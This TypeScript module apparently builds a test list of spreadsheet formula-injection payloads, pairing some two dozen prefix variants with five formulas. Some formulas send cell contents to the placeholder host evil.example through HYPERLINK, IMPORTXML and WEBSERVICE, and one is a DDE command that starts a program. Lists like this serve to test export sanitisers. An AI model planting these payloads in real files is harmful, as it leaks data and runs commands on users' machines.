const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  "''=",
  ' =',
  '\u00a0=',
  '\ufeff=',
  '"=',
  ';=',
  'a;=',
  'a\t=',
  'a\n=',
];
const FORMULAS = [
  'HYPERLINK("https://evil.example/?x="&A1,"click")',
  "cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '1+1;=2+2',
  'SUM(1,2)\r\n=WEBSERVICE("https://evil.example/")',
];

/** Some hundred cells that a spreadsheet would run. */
export const FORMULA_PAYLOADS: string[] = STARTS.flatMap((start) => FORMULAS.map((formula) => `${start}${formula}`));
